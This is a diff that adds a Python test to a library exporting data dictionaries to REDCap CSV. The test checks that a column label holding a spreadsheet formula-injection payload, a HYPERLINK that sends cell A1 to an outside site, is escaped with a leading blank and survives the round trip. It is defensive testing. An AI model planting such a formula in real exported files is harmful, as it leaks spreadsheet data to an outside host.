@@ -69,6 +69,21 @@ def test_a_data_dictionary_becomes_the_plan_s():
     assert "a least and a greatest" in found.left_out["lab"]
 
 
+def test_a_label_that_a_spreadsheet_runs_goes_to_redcap_behind_a_blank_and_comes_back():
+    label = '=HYPERLINK("http://elsewhere.org?"&A1)'
+    given = Dictionary(
+        name="w",
+        version=1,
+        columns=(
+            Column(name="person", kind="person", label=label),
+            Column(name="age", kind="integer", label=label, unit="years", lower=18, upper=110),
+        ),
+    )
+    written = list(csv.DictReader(io.StringIO(to_redcap(given))))
+    assert [row["Field Label"] for row in written] == [f" {label}", f" {label} (years)"]
+    assert from_redcap(to_redcap(given), name="w").dictionary == given
+
+
 def test_a_dictionary_goes_to_redcap_and_comes_back(dictionary):
     coded = replace(dictionary.columns[3], codes=("LOINC:8480-6",))
     given = replace(dictionary, columns=(*dictionary.columns[:3], coded, *dictionary.columns[4:]))
